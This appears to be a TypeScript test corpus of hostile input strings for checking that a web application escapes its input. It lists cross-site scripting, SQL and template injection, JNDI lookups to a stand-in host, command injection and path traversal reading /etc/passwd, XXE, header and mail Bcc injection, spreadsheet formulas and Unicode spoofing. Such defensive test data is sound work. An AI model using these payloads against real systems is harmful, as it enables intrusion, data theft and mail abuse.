/*
 * Texts that someone might type, paste or send to break a page, a query, a mail or a program. Each
 * one that carries markup uses the same made-up names, so that one look at an answer tells whether it
 * came back as markup: the element `zq9`, the attribute `onzq9`, the header `x-zq9` and the host
 * `evil.example`. In a browser they call `zq9()`.
 */

/** Would run a script, or become markup, where a page wrote it as it is. */
const markup = [
  "<zq9>",
  '"><zq9 onzq9=1>',
  "'><zq9 onzq9=1>",
  '" onzq9="zq9()" autofocus onfocus="zq9()',
  "<script>zq9()</script><zq9>",
  '<img src=x onerror="zq9()"><zq9>',
  "<svg/onload=zq9()><zq9>",
  "</title><script>zq9()</script><zq9>",
  "</textarea><script>zq9()</script><zq9>",
  "<!--<script>zq9()//--><zq9>",
  "<iframe srcdoc='<script>parent.zq9()</script>'></iframe><zq9>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=zq9()>'><zq9>",
  "<base href=//evil.example/><zq9>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'><zq9>",
  "<a href=javascript:zq9()>here</a><zq9>",
  "\u003Czq9\u003E\\u003Czq9\\u003E&#60;zq9&#62;&lt;zq9&gt;",
  "%3Czq9%3E%22%20onzq9%3D1",
];

/** Would run where a page wrote it into a link, a script or a style. */
const code = [
  "javascript:zq9()",
  "JaVaScRiPt:zq9()//",
  " \u0001javascript:zq9()",
  "data:text/html,<script>zq9()</script><zq9>",
  "//evil.example/",
  "https://evil.example/",
  "/\\evil.example/",
  "https://localhost@evil.example/",
  '";zq9();//',
  "`;zq9();`${zq9()}",
  "\u2028zq9()\u2029",
  "red;background:url(//evil.example/x)",
  "@import '//evil.example/x';",
];

/** Would be read as a program by something behind the page. */
const injections = [
  "' OR '1'='1",
  "'; DROP TABLE feedback; --",
  "1; SELECT pg_sleep(5) --",
  "$1 $$ ?1 :name @name",
  "{{7*191}} ${7*191} <%= 7*191 %> #{7*191} *{7*191}",
  "${jndi:ldap://evil.example/a}",
  "| cat /etc/passwd ; `id` $(id)",
  "../../../../etc/passwd",
  "file:///etc/passwd",
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
];

/** Would begin a line of its own in a header, a mail or a log. */
const lines = [
  "a\r\nX-Zq9: 1",
  "a\nX-Zq9: 1",
  "a\u2028X-Zq9: 1\u0085X-Zq9: 1",
  "a\u560d\u560aX-Zq9: 1",
  "a\r\nBcc: victim@evil.example\r\n\r\nHello",
  "amina@learner.example\r\nBcc: victim@evil.example",
  "amina@learner.example, victim@evil.example",
  '"<victim@evil.example>" <amina@learner.example>',
  "\r\n.\r\nMAIL FROM:<a@evil.example>",
  "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<zq9>",
  "END:VEVENT\r\nBEGIN:VALARM\r\nX-Zq9:1",
];

/** Would be worked out by a spreadsheet. */
const formulas = ["=1+1", "@SUM(1)", '=HYPERLINK("https://evil.example","a")', "\t=1+1"];

/** Reads differently from what it is, or is nothing to see. */
const misleading = [
  "abc\u202Egnp.exe",
  "\u2066\u2067\u2068 never ended",
  "a\u200Bb\u200Cc\u200Dd\uFEFFe",
  "\u00AD\u034F\u115F\u1160\u3164\uFFA0",
  "e\u0301".repeat(20) + "\u0301".repeat(400),
  "\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(20),
  "аdmіn@асаdеmу.example",
  "\uD83D",
  "\u0000",
  "a\u0000b",
  "\u0001\u0008\u001B[2J\u007F\u009F",
  "\u{E0001}\u{E0041}",
];

/** Names that every object of JavaScript knows. */
export const objectNames = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "then",
  "toJSON",
  "__proto__[zq9]",
  "constructor[prototype][zq9]",
];

/** Of lengths and values at which something may give way. */
const extremes = [
  "",
  "\t\n",
  "-1",
  "NaN",
  "[]",
  "[object Object]",
  "9007199254740993",
  "٠١٢٣",
  "+275760-09-13T00:00:00.000Z",
  "a".repeat(6_000),
  "😀".repeat(2_600),
  " ".repeat(5_000),
  "(".repeat(5_000),
  "a@".repeat(2_000),
  "1".repeat(5_000),
  "&".repeat(3_000),
];

export const hostileTexts: readonly string[] = [
  ...markup,
  ...code,
  ...injections,
  ...lines,
  ...formulas,
  ...misleading,
  ...objectNames,
  ...extremes,
];

/** The part of the corpus that could run or mislead on a page. */
export const hostileToPages: readonly string[] = [...markup, ...code, ...formulas, ...misleading];

/** The part that could become a header, another receiver, a line of SMTP or markup of a mail. */
export const hostileToMails: readonly string[] = [
  ...lines,
  ...markup.slice(0, 6),
  ...misleading.slice(0, 8),
];
